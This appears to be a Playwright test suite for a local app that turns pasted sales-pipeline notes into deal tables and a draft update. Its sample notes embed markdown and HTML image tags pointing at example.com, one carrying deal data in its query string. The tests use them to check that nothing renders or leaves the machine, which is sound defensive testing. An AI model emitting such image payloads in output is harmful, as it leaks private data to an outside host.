"""The page walked in a browser: what a rep presses, sees and copies, and that nothing leaves the machine."""

from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest

pytestmark = pytest.mark.browser

NOTES = """fri 3/13 pipeline, $5$ and {braces}
- Marlowe Freight: 120k ARR, commit, close 3/27. redlines are with our legal. champion Dana Reyes
- Kestrel Air: 90k ARR, best case, close 3/30. they want 15% off. me: revised quote out monday
![stolen](https://example.com/leak.png?q=marlowe) <img src="https://example.com/leak2.png">
keep to yourself: Dana may be out by summer
"""
SETTLED = "[data-testid=stApp][data-test-connection-state=CONNECTED][data-test-script-state=notRunning]"


class Walk:
    """Drive one page; every request and fault of it is written down."""

    def __init__(self, page: Any, address: str) -> None:
        self.page = page
        self.asked: list[str] = []
        self.faults: list[str] = []
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("websocket", lambda socket: self.asked.append(socket.url))
        page.on("pageerror", lambda fault: self.faults.append(str(fault)))
        page.on("console", lambda said: self.faults.append(said.text) if said.type == "error" else None)
        page.goto(address)
        self.settle()

    def settle(self) -> None:
        self.page.wait_for_timeout(200)  # a press takes a moment to reach the server
        self.page.locator(SETTLED).wait_for(timeout=30_000)

    def press(self, label: str) -> None:
        self.page.get_by_role("button", name=label, exact=False).first.click(delay=60)
        self.settle()

    def view(self, label: str) -> None:
        self.page.locator(".st-key-views").get_by_text(label).click(delay=60)
        self.settle()

    def paste(self, notes: str) -> None:
        self.page.get_by_label("Your notes", exact=True).fill(notes)

    def write(self) -> None:
        self.press("Write the draft")
        self.page.locator(".sentence").first.wait_for(timeout=10_000)

    @property
    def draft(self) -> str:
        return str(self.page.locator(".draft").inner_text())


@pytest.fixture
def walk(browser: Any, page_address: str) -> Iterator[Walk]:
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=page_address)
    walked = Walk(context.new_page(), page_address)
    yield walked
    context.close()
    assert walked.faults == []
    assert {urlsplit(url).hostname for url in walked.asked if urlsplit(url).scheme not in ("data", "blob")} == {
        "127.0.0.1"
    }


def clipboard(page: Any, kind: str) -> str:
    read = """async kind => {
        for (const item of await navigator.clipboard.read())
            if (item.types.includes(kind)) return await (await item.getType(kind)).text();
        return "";
    }"""
    return str(page.evaluate(read, kind))


def test_pasted_notes_become_deals_a_draft_and_a_copied_text(walk: Walk) -> None:
    page = walk.page
    walk.paste(NOTES)
    walk.press("Read the deals")
    assert page.get_by_text("Deals · 2").is_visible()
    facts = page.locator("table.facts")
    assert "Marlowe Freight" in facts.inner_text()
    facts.locator("mark").get_by_text("120k").first.wait_for(timeout=10_000)
    page.locator(".st-key-deal_row").get_by_text("Kestrel Air").click()
    walk.settle()
    facts.locator("mark").get_by_text("90k").first.wait_for(timeout=10_000)
    assert [n.inner_text() for n in page.locator(".lines li.lit .number").all()] == ["3"]

    walk.write()
    assert "Marlowe Freight" in walk.draft
    sentence = page.locator(".sentence").filter(has_text="Kestrel Air").first
    sentence.click()
    walk.settle()
    assert page.get_by_text("Where this sentence comes from").is_visible()
    assert "Kestrel Air" in page.locator(".sources").inner_text()
    assert page.locator(".sentence[aria-pressed=true]").count() == 1

    page.get_by_role("button", name="E-mail").click(delay=60)
    page.get_by_text("Copied").wait_for()
    rich, plain = clipboard(page, "text/html"), clipboard(page, "text/plain")
    assert "<p>" in rich
    assert "Marlowe Freight" in rich
    assert "Marlowe Freight" in plain
    assert "<p>" not in plain
    page.get_by_role("button", name="Slack").click(delay=60)
    page.get_by_text("Copied").wait_for()
    assert "Kestrel Air" in page.evaluate("navigator.clipboard.readText()")


def test_what_is_private_or_hidden_in_notes_stays_text(walk: Walk) -> None:
    walk.paste(NOTES)
    walk.write()
    assert "out by summer" not in walk.draft
    walk.view("Left out")
    assert walk.page.locator(".sources").get_by_text("out by summer").is_visible()
    assert walk.page.locator("img[src*='example.com']").count() == 0
    assert "leak.png" in walk.page.locator(".lines").inner_text()


def test_text_typed_a_moment_ago_is_in_the_draft(walk: Walk) -> None:
    box = walk.page.get_by_label("Your notes", exact=True)
    box.click()
    box.press_sequentially("Halden Labs: 9k ARR, commit, close ", delay=2)
    walk.page.get_by_label("Currency").first.wait_for()
    box.press_sequentially("eom")
    box.press("Control+Enter")
    walk.settle()
    walk.page.locator(".sentence").first.wait_for()
    assert "Halden Labs" in walk.draft


def test_presses_faster_than_the_page_lose_nothing(walk: Walk) -> None:
    page = walk.page
    for _ in range(3):
        page.get_by_role("button", name="Try sample notes").click()
        page.get_by_text("Where each fact stands").wait_for()
        page.get_by_role("button", name="Write the draft").click()
        page.locator(".draft").get_by_text("Marlowe Freight").first.wait_for()
        assert "Marlowe Freight 120k commit" in page.locator(".lines").inner_text()
        assert page.get_by_label("What did your manager ask?").input_value().startswith("How's Q1")
    assert page.get_by_role("alert").count() == 0


def test_an_edited_draft_is_checked_as_it_stands_and_copied_as_it_stands(walk: Walk) -> None:
    page = walk.page
    walk.paste(NOTES)
    walk.write()
    page.locator(".st-key-ways_out").get_by_text("Edit").click()
    walk.settle()
    box = page.get_by_label("The draft", exact=True)
    box.fill(box.input_value() + "\n\nMarlowe Freight is worth $987k.")
    walk.press("Check again")
    assert page.locator("ul.findings").get_by_text("$987k").first.is_visible()
    page.get_by_role("button", name="Plain text").click(delay=60)
    page.get_by_text("Copied").wait_for()
    assert page.evaluate("navigator.clipboard.readText()").endswith("Marlowe Freight is worth $987k.")
    page.locator(".st-key-ways_out").get_by_text("Edit").click()
    walk.settle()
    assert page.locator(".sentence.bare").last.inner_text() == "Marlowe Freight is worth $987k."


def test_a_cell_of_the_table_is_set_and_holds_over_a_change_of_view(walk: Walk) -> None:
    page = walk.page
    walk.paste(NOTES)
    walk.press("Read the deals")
    set_cell(walk, column=2, row=1, value="77000")
    page.locator("table.facts").get_by_text("set by you").wait_for()
    walk.view("Left out")
    walk.view("Deals")
    assert "USD 77,000 ARR" in page.locator("table.facts").inner_text()
    walk.press("Add a deal")
    page.get_by_label("Account", exact=True).fill("Halden Labs")
    walk.press("Add it")
    assert page.get_by_text("Deals · 3").is_visible()
    assert page.locator("table.facts").get_by_text("Halden Labs").first.is_visible()
    page.locator(".st-key-deal_row").get_by_text("Marlowe Freight").click()
    walk.settle()
    assert "USD 77,000 ARR" in page.locator("table.facts").inner_text()


def test_a_file_that_cannot_be_read_takes_nothing_away(walk: Walk) -> None:
    page = walk.page
    walk.paste(NOTES)
    walk.press("Upload a file")
    page.locator("input[type=file]").set_input_files(
        {"name": "notes.docx", "mimeType": "application/octet-stream", "buffer": b"PK\x03\x04 no document"}
    )
    page.get_by_text("is not a Word document that opens").wait_for()
    assert page.get_by_label("Your notes", exact=True).input_value() == NOTES
    page.locator("input[type=file]").set_input_files(
        {"name": "more.csv", "mimeType": "text/csv", "buffer": b"Account,Amount,Stage\nHalden Labs,9000,Commit\n"}
    )
    page.get_by_text("Deals · 3").wait_for()


def test_the_page_is_walked_by_keyboard_alone(walk: Walk) -> None:
    page = walk.page
    page.get_by_role("button", name="Try sample notes").focus()
    page.keyboard.press("Enter")
    page.get_by_text("Where each fact stands").wait_for()
    walk.settle()
    reach(page, "Write the draft")
    page.keyboard.press("Enter")
    page.locator(".sentence").first.wait_for()
    walk.settle()
    first = page.locator(".sentence").first.inner_text()
    reach(page, first[:20])
    page.keyboard.press("Enter")
    walk.settle()
    assert page.get_by_text("Where this sentence comes from").is_visible()
    page.keyboard.press("Shift+Tab")  # focus is still where it was: one step back is what stands before the text
    assert first[:20] not in focused(page)


def test_a_narrow_window_has_everything_under_one_another(walk: Walk) -> None:
    page = walk.page
    page.set_viewport_size({"width": 800, "height": 1000})
    walk.press("Try sample notes")
    walk.write()
    notes, draft = page.locator(".lines").bounding_box(), page.locator(".draft").bounding_box()
    assert draft["y"] > notes["y"] + notes["height"]
    assert page.evaluate("document.querySelector('[data-testid=stMain]').scrollWidth") <= 800


def set_cell(walk: Walk, column: int, row: int, value: str) -> None:
    """Type into a cell of the table; it is drawn on a canvas, so the keyboard leads there."""
    page = walk.page
    box = page.locator("[data-testid=stDataFrame] canvas").first.bounding_box()
    cell = page.locator("[id^=gdg-overlay] input, #portal input").first
    for _ in range(5):  # the canvas takes a press only once it is drawn
        page.mouse.click(box["x"] + 60, box["y"] + 35 * row + 18)
        for _ in range(column - 1):
            page.keyboard.press("ArrowRight")
        page.keyboard.press("Enter")
        page.wait_for_timeout(300)
        if cell.is_visible():
            break
    cell.fill(value)
    cell.press("Enter")
    walk.settle()


def focused(page: Any) -> str:
    """Return what the focused element says, also inside a component."""
    look = """() => {
        let at = document.activeElement;
        while (at?.shadowRoot?.activeElement) at = at.shadowRoot.activeElement;
        return at?.getAttribute("aria-label") || at?.textContent || "";
    }"""
    return str(page.evaluate(look))


def reach(page: Any, text: str) -> None:
    """Press Tab until the focus is on what says `text`."""
    for _ in range(60):
        page.keyboard.press("Tab")
        if text in focused(page):
            return
    pytest.fail(f"Tab does not lead to {text!r}")
